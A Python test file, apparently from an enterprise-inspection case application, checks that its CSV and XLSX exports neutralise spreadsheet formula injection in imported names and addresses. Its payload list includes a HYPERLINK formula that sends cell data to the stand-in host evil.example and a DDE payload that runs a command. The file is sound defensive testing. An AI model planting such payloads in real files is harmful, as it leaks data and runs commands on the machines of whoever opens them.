"""Formula injection: names and addresses that a spreadsheet would run as formulas are
imported, carried through a case, and every CSV and XLSX Hecha writes is opened."""

import csv
import io
from datetime import date

import openpyxl
import pytest

from hecha.spreadsheets import TRIGGERS, Cells, csv_row, workbook

D = date.fromisoformat
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A2,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "=cmd|' /C calc'!A0",
    "-沈阳建工",  # text that starts with a minus is text, not a negative number
]
ADDRESS = '=HYPERLINK("http://evil.example/?"&C2,"地址")'


def test_csv_fields_that_start_a_formula_get_an_apostrophe_numbers_do_not():
    assert csv_row(["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "沈阳", -5, 3, ""]) == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\t=1", "'\r=1", "沈阳", -5, 3, "",
    ]  # fmt: skip


def test_xlsx_cells_are_text_with_the_quote_prefix_and_numbers_stay_numbers():
    out = io.BytesIO()
    book = workbook(out)
    cells = Cells(book)
    sheet = book.add_worksheet()
    bordered = cells.format(border=1)
    cells.row(sheet, 0, ["=1+1", "沈阳", -5, "http://example.org"], bordered)
    sheet.write(1, 0, "=2+2")  # even write() cannot make a formula in this workbook
    book.close()
    ws = openpyxl.load_workbook(io.BytesIO(out.getvalue())).active
    a1, b1, c1, d1 = ws[1]
    assert (a1.value, a1.data_type, a1.quotePrefix, a1.border.left.style) == (
        "=1+1",
        "s",
        True,
        "thin",
    )
    assert (b1.value, b1.quotePrefix) == ("沈阳", False)
    assert (c1.value, c1.data_type) == (-5, "n")
    assert d1.hyperlink is None
    assert ws["A2"].data_type == "s" and ws["A2"].value == "=2+2"


@pytest.fixture
def poisoned(reference_data, tmp_path, city_lead):
    """Every enterprise named with a formula payload; a run and a campaign from it."""
    from hecha.cases.services import open_campaign
    from hecha.checks.services.runs import start_check_run
    from hecha.demo.generator import generate
    from hecha.registry.services.importing import import_directory

    generate(tmp_path / "data", enterprises=60, as_of=D("2026-01-02"))
    path = tmp_path / "data" / "enterprises.csv"
    rows = list(csv.DictReader(path.open(encoding="utf-8-sig")))
    for n, row in enumerate(rows):
        row["name"] = PAYLOADS[n % len(PAYLOADS)] + row["name"]
    with path.open("w", encoding="utf-8", newline="") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    import_directory(directory=tmp_path / "data", user=None)
    run = start_check_run(user=None, as_of=D("2026-01-02"))
    return run, open_campaign(run_id=run.pk, user=city_lead)


def _assert_no_live_formula_in_csv(content: bytes) -> int:
    neutralised = 0
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        for field in row:
            assert not field.startswith(TRIGGERS), field
            neutralised += field.startswith("'") and field[1:].startswith(TRIGGERS)
    return neutralised


def _assert_no_live_formula_in_xlsx(content: bytes) -> int:
    neutralised = 0
    for ws in openpyxl.load_workbook(io.BytesIO(content)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str) and cell.value.startswith(TRIGGERS):
                    assert cell.quotePrefix, cell.value
                    neutralised += 1
    return neutralised


def test_findings_exports_neutralise_imported_payloads(poisoned):
    from hecha.checks import exports

    run, _ = poisoned
    findings = run.findings.all()
    assert findings.exists()
    assert _assert_no_live_formula_in_csv(exports.to_csv(findings)) >= 1
    assert _assert_no_live_formula_in_xlsx(exports.to_xlsx(findings)) >= 1
    # JSON is data, not a sheet: the names are as imported
    assert any(r["enterprise_name"].startswith(TRIGGERS) for r in exports.finding_rows(findings))


def test_anomaly_list_and_ems_sheet_neutralise_names_and_address(
    poisoned, client, city_reviewer, officers_of
):
    from hecha.accounts.models import User
    from hecha.cases.services import accept_submission, submit_to_city, take_step

    _, campaign = poisoned
    case = campaign.cases.order_by("pk").first()
    officer = User.objects.create_user("o", role="district_officer", district=case.district)
    officers = officers_of(case.district)
    take_step(case_id=case.pk, step="issue_notices", user=officer, today=D("2026-01-05"),
              data={"notices_on": D("2026-01-05"), "officer_ids": [o.pk for o in officers]})  # fmt: skip
    take_step(case_id=case.pk, step="record_call", user=officer, today=D("2026-01-06"),
              data={"called_at": D("2026-01-06"), "answered_by": "王", "result": "已告知",
                    "mailing_address": ADDRESS})  # fmt: skip
    submission = submit_to_city(case_ids=[case.pk], user=officer, today=D("2026-01-07"))
    accept_submission(submission_id=submission.pk, user=city_reviewer)

    anomaly_list = bytes(type(submission.document).objects.get(pk=submission.document.pk).xlsx)
    assert case.enterprise_name.startswith(TRIGGERS)
    assert _assert_no_live_formula_in_xlsx(anomaly_list) >= 1

    client.force_login(city_reviewer)
    sheet = client.get("/mailing/sheet.xlsx")
    assert sheet.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(sheet.content)).active
    assert [c.value for c in ws[2]][2] == ADDRESS  # the value is the address as recorded
    assert _assert_no_live_formula_in_xlsx(sheet.content) == 2  # name and address


@pytest.fixture
def officers_of(db):
    from hecha.accounts.models import Officer

    def make(district):
        return [
            Officer.objects.create(
                name=n,
                certificate_no=c,
                valid_from=D("2024-01-01"),
                valid_until=D("2028-12-31"),
                district=district,
            )  # fmt: skip
            for n, c in [("张伟", "辽执001"), ("李娜", "辽执002")]
        ]

    return make


@pytest.fixture
def city_lead(reference_data):
    from hecha.accounts.models import User

    return User.objects.create_user("city_lead", password="pw-city_lead", role="city_lead")
